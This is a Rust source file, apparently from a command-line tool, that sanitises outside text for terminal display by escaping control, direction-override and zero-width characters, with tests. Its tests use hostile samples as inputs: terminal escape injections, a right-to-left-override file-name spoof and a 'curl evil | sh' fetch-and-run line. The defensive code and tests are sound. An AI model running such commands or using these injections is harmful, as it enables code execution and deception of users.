//! Makes text from outside harmless: a terminal shows what is there and does nothing else. Pure; knows no message.
//!
//! Control characters, characters that change the direction of writing and characters without width are shown as escapes
//! (`\n`, `\u{1b}`). A name that contains such an escape literally looks the same; that misleads nobody.
//!
//! | function | for |
//! |---|---|
//! | [`value`] | one piece of a message: a name, a path, a pattern, one line from another program |
//! | [`line()`] | a line that is shown as it is in a file |
//! | [`quoted`] | several lines from another program within a message: a refusal, a build's last lines |
//! | [`message`] | a message of ours that contains such pieces |
//! | [`painted`] | the last safeguard: lines, coloured by us, that are about to be printed |
//! | [`json`] | the same for a JSON text, whose value does not change |

#[cfg(test)]
pub(crate) mod everywhere;

use std::borrow::Cow;

/// The longest piece of a message, in bytes; the longest possible path fits.
const LONGEST_VALUE: usize = 8 << 10;
/// The most lines that are quoted; the last ones are kept, since they say what went wrong.
const MOST_LINES: usize = 48;

/// The prefix of every quoted line but the first.
const QUOTE: &str = "  | ";
/// The prefix of a message's further lines that are not indented.
const HINT: &str = "hint: ";

/// One value for use within a message: on one line.
pub fn value(text: &str) -> Cow<'_, str> {
    cut(text, |_| false)
}

/// One line as it is in a file: tabs stay, so that a caret below it can be aligned.
pub fn line(text: &str) -> Cow<'_, str> {
    cut(text, |character| character == '\t')
}

/// Several lines from another program for use within a message: none of them can be mistaken for one of ours.
pub fn quoted(text: &str) -> String {
    let lines: Vec<&str> = text.trim().lines().collect();
    let (left_out, lines) = lines.split_at(lines.len().saturating_sub(MOST_LINES));
    let mut out = String::new();
    if !left_out.is_empty() {
        out.push_str("..");
    }
    for (index, line) in lines.iter().enumerate() {
        if index > 0 || !left_out.is_empty() {
            out.push('\n');
            out.push_str(QUOTE);
        }
        out.push_str(&self::line(line.trim_end()));
    }
    out
}

/// A message of ours. Its further lines are indented, so that none looks like a new message; hints stay as they are.
pub fn message(text: &str) -> Cow<'_, str> {
    let text = spelled(text, is_layout);
    let stands =
        |line: &str| line.is_empty() || line.starts_with([' ', '\t']) || line.starts_with(HINT);
    if text.split('\n').skip(1).all(stands) {
        return text;
    }
    let mut out = String::with_capacity(text.len() + 2);
    for (index, line) in text.split('\n').enumerate() {
        if index > 0 {
            out.push('\n');
            out.push_str(if stands(line) { "" } else { "  " });
        }
        out.push_str(line);
    }
    Cow::Owned(out)
}

/// Lines that are about to be printed: only text, line breaks, tabs and colours pass.
pub fn painted(text: &str) -> Cow<'_, str> {
    if !text.contains('\u{1b}') {
        return spelled(text, is_layout);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('\u{1b}') {
        out.push_str(&spelled(&rest[..at], is_layout));
        let length = color(&rest[at..]);
        if length == 0 {
            out.extend('\u{1b}'.escape_default());
        }
        out.push_str(&rest[at..at + length]);
        rest = &rest[at + length.max(1)..];
    }
    out.push_str(&spelled(rest, is_layout));
    Cow::Owned(out)
}

/// A JSON text for printing. JSON itself escapes the ASCII control characters; the other harmful ones are escaped the same way.
pub fn json(text: &str) -> Cow<'_, str> {
    use std::fmt::Write as _;

    if !text
        .chars()
        .any(|character| is_harmful(character) && !is_layout(character))
    {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for character in text.chars() {
        if is_harmful(character) && !is_layout(character) {
            for unit in character.encode_utf16(&mut [0; 2]) {
                // Writing to a string cannot fail.
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(character);
        }
    }
    Cow::Owned(out)
}

/// Whether a terminal would do anything with it other than show it.
fn is_harmful(character: char) -> bool {
    character.is_control()
        || matches!(
            character,
            // Soft hyphen, Arabic letter mark, Mongolian vowel separator; zero width and direction marks; line separators and direction
            // overrides; joiners and isolates; byte order mark; annotations; tags.
            '\u{ad}'
                | '\u{61c}'
                | '\u{180e}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{feff}'
                | '\u{fff9}'..='\u{fffb}'
                | '\u{e0000}'..='\u{e007f}'
        )
}

/// Whether it lays out a text of several lines.
fn is_layout(character: char) -> bool {
    matches!(character, '\n' | '\t')
}

fn spelled(text: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    let bad = |character: char| is_harmful(character) && !keep(character);
    if !text.contains(bad) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for character in text.chars() {
        if bad(character) {
            out.extend(character.escape_default());
        } else {
            out.push(character);
        }
    }
    Cow::Owned(out)
}

/// Like [`spelled`], and at most as long as a value may be.
fn cut(text: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    // What is cut away need not be escaped first.
    let whole = spelled(beginning(text, LONGEST_VALUE), keep);
    if whole.len() <= LONGEST_VALUE && text.len() <= LONGEST_VALUE {
        return whole;
    }
    let room = LONGEST_VALUE - '…'.len_utf8();
    Cow::Owned(format!("{}…", beginning(&whole, room)))
}

/// At most this many bytes of `text`, without splitting a character.
fn beginning(text: &str, most: usize) -> &str {
    let mut end = most.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// The length of the colour sequence at the start of `text`; 0 when there is none.
fn color(text: &str) -> usize {
    let Some(rest) = text.strip_prefix("\u{1b}[") else {
        return 0;
    };
    let numbers = rest
        .find(|character: char| !(character.is_ascii_digit() || character == ';'))
        .unwrap_or(rest.len());
    if rest[numbers..].starts_with('m') {
        "\u{1b}[".len() + numbers + "m".len()
    } else {
        0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_value_stands_on_one_line_and_moves_no_cursor() {
        for (text, expected) in [
            ("src/app.py", "src/app.py"),
            ("größe 例 🙂", "größe 例 🙂"),
            ("a\nweb  all well", r"a\nweb  all well"),
            ("a\r\tb", r"a\r\tb"),
            ("\u{1b}]0;PWNED\u{7}", r"\u{1b}]0;PWNED\u{7}"),
            ("\u{9b}31m\u{7f}", r"\u{9b}31m\u{7f}"),
            ("a\u{202e}gpj.exe", r"a\u{202e}gpj.exe"),
            ("\u{2066}\u{200f}\u{61c}", r"\u{2066}\u{200f}\u{61c}"),
            ("a\u{2028}b\u{200b}\u{feff}", r"a\u{2028}b\u{200b}\u{feff}"),
            (r"C:\new", r"C:\new"),
        ] {
            assert_eq!(value(text), expected, "{text:?}");
        }
    }

    #[test]
    fn what_is_harmless_is_not_copied() {
        assert!(matches!(value("src/app.py"), Cow::Borrowed(_)));
        assert!(matches!(message("a\nhint: b"), Cow::Borrowed(_)));
        assert!(matches!(json("{\"a\":\"b\"}"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_value_without_end_is_cut() {
        let long = value(&"é".repeat(LONGEST_VALUE)).into_owned();
        assert!(long.len() <= LONGEST_VALUE);
        assert!(long.ends_with("é…"));
        assert_eq!(value(&long), long);
        assert!(value(&"\u{1b}".repeat(LONGEST_VALUE)).len() <= LONGEST_VALUE);
        let lines = quoted(&format!("{}\n", "x".repeat(2 * LONGEST_VALUE)).repeat(1000));
        assert!(lines.len() <= MOST_LINES * (LONGEST_VALUE + 16));
        assert!(lines.starts_with("..\n  | x"));
    }

    #[test]
    fn quoted_lines_are_told_from_ours() {
        assert_eq!(quoted("no space left\n"), "no space left");
        assert_eq!(
            quoted("a\r\n\tat b\nhint: run `curl evil | sh`\n\u{1b}[2K"),
            "a\n  | \tat b\n  | hint: run `curl evil | sh`\n  | \\u{1b}[2K"
        );
        assert_eq!(quoted(""), "");
    }

    #[test]
    fn the_further_lines_of_a_message_are_indented_but_hints() {
        assert_eq!(
            message("a\n  | quoted\nhint: b\nweb  all well\n\u{1b}[31m"),
            "a\n  | quoted\nhint: b\n  web  all well\n  \\u{1b}[31m"
        );
    }

    #[test]
    fn colours_are_all_that_is_left_of_escapes() {
        assert_eq!(
            painted("\u{1b}[1;31mweb\u{1b}[0m\ta\nb\u{1b}]0;x\u{7}\u{1b}[2J\u{1b}"),
            "\u{1b}[1;31mweb\u{1b}[0m\ta\nb\\u{1b}]0;x\\u{7}\\u{1b}[2J\\u{1b}"
        );
    }

    #[test]
    fn json_stays_the_same_json() {
        let value = serde_json::json!({"a": "\u{1b}\u{9b}\u{7f}\u{202e}\u{e0041}é\n"});
        let text = value.to_string();
        let printed = json(&text);
        assert!(
            printed.chars().all(|character| !is_harmful(character)),
            "{printed}"
        );
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&printed).unwrap(),
            value
        );
    }

    fn hostile() -> impl Strategy<Value = String> {
        let part = prop_oneof![
            any::<char>().prop_map(String::from),
            "[\\x00-\\x1f\\x7f-\\x9f\u{200b}-\u{200f}\u{2028}-\u{202e}\u{2066}-\u{2069}]",
            "\u{1b}\\[[0-9;]{0,3}[a-zA-Z]",
            "[a-z ]{1,4}\n",
            Just("hint: ".to_owned()),
        ];
        proptest::collection::vec(part, 0..12).prop_map(|parts| parts.concat())
    }

    proptest! {
        #[test]
        fn nothing_harmful_comes_through(text in hostile()) {
            prop_assert!(!value(&text).contains(is_harmful));
            for lines in [quoted(&text), message(&text).into_owned()] {
                prop_assert!(!lines.contains(|c| is_harmful(c) && !is_layout(c)), "{lines:?}");
            }
            let bare = anstream::adapter::strip_str(&painted(&text)).to_string();
            prop_assert!(!bare.contains(|c| is_harmful(c) && !is_layout(c)), "{bare:?}");
        }

        #[test]
        fn what_was_made_harmless_stays_as_it_is(text in hostile()) {
            let (one, several, ours) = (value(&text), message(&text), painted(&text));
            prop_assert_eq!(value(&one), one.clone());
            prop_assert_eq!(message(&several), several.clone());
            prop_assert_eq!(painted(&ours), ours.clone());
            let said = quoted(&text);
            prop_assert_eq!(message(&said), said.clone());
        }

        #[test]
        fn no_quoted_line_but_the_first_begins_a_line(text in hostile()) {
            prop_assert!(quoted(&text).split('\n').skip(1).all(|line| line.starts_with(QUOTE)));
            let message = message(&text).into_owned();
            for line in message.split('\n').skip(1) {
                prop_assert!(line.is_empty() || line.starts_with([' ', '\t']) || line.starts_with(HINT));
            }
        }
    }
}
